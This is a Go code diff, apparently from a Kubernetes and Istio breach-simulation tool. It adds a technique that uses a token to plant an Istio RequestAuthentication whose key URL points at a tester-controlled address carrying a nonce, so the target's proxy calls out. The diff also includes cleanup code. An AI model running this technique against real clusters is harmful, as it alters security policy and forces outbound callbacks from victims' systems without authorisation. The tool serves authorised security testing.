@@ -5,6 +5,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"maps"
+	"net/url"
 	"reflect"
 	"slices"
 	"strings"
@@ -28,6 +29,9 @@ func (p SubmitObject) path(t attacker.Target) (string, error) {
 	if err != nil {
 		return "", err
 	}
+	if p.Object == SubmitIssuer {
+		return "/apis/security.istio.io/v1/namespaces/" + namespace + "/requestauthentications", nil
+	}
 	path := "/api/v1/namespaces/" + namespace
 	if p.Object == SubmitNamespace {
 		return path, nil
@@ -50,6 +54,8 @@ func (p SubmitObject) path(t attacker.Target) (string, error) {
 // body is the object, or what is to change in it; nil for a command.
 func (p SubmitObject) body(nonce string, t attacker.Target) (any, error) {
 	switch p.Object {
+	case SubmitIssuer:
+		return p.authentication(objectName(nonce), nonce, t)
 	case SubmitContainer:
 		c, err := p.container(objectName(nonce), nonce, t)
 		return map[string]any{"spec": map[string]any{"ephemeralContainers": []any{c}}}, err
@@ -100,6 +106,52 @@ func (p SubmitObject) pod(nonce string, t attacker.Target) (any, error) {
 	}, nil
 }
 
+// authentication names an issuer that nobody has, for the proxy of the token's
+// owner alone: nobody else's proxy is told of it.
+func (p SubmitObject) authentication(name, nonce string, t attacker.Target) (any, error) {
+	proxy, err := nameOf(t, p.Token.Of, "proxy")
+	if err != nil {
+		return nil, err
+	}
+	app, _, _ := strings.Cut(proxy, ".")
+	at, err := p.address(nonce, t)
+	if err != nil {
+		return nil, err
+	}
+	return map[string]any{
+		"apiVersion": "security.istio.io/v1", "kind": "RequestAuthentication",
+		"metadata": map[string]any{"name": name},
+		"spec": map[string]any{
+			"selector": map[string]any{"matchLabels": map[string]any{"app": app}},
+			"jwtRules": []any{map[string]any{"issuer": name + ".meshbreach.test", "jwksUri": at}},
+		},
+	}, nil
+}
+
+// address is where the keys are said to be. Whoever fetches them can be made to
+// send no header, so that the nonce travels in the query.
+func (p SubmitObject) address(nonce string, t attacker.Target) (string, error) {
+	first, err := queried(p.Keys, t, url.Values{"nonce": {nonce}})
+	if err != nil || p.By == "" {
+		return first, err
+	}
+	return queried(p.By, t, url.Values{"nonce": {nonce}, "to": {first}})
+}
+
+// queried is an address of the range with values in its query.
+func queried(address string, t attacker.Target, values url.Values) (string, error) {
+	filled, err := fill(address, t)
+	if err != nil {
+		return "", err
+	}
+	u, err := url.Parse(filled)
+	if err != nil {
+		return "", fmt.Errorf("where the keys are: %w", err)
+	}
+	u.RawQuery = values.Encode()
+	return u.String(), nil
+}
+
 // taken says whether an answer is the object that was asked for, as the API has
 // taken it: something on the way may have made it harmless.
 func (p SubmitObject) taken(answer []byte, asked string) bool {
@@ -143,14 +195,14 @@ func has(got, want any) bool {
 	return reflect.DeepEqual(got, want)
 }
 
-// undo deletes the pod that was made, or takes away the labels that were set.
+// undo deletes what was made, or takes away the labels that were set.
 // The user agent is that of a program: it is no part of the attempt.
 func (p SubmitObject) undo(ctx context.Context, f attacker.Foothold, made attacker.Knock, name string) error {
 	k := made
 	k.Headers = maps.Clone(made.Headers)
 	add(&k, "user-agent", "meshbreach/tidy")
 	switch {
-	case p.pods():
+	case p.makes():
 		k.Method, k.Path, k.Body = "DELETE", made.Path+"/"+name, ""
 		delete(k.Headers, "content-type")
 	case p.Object == SubmitNamespace:
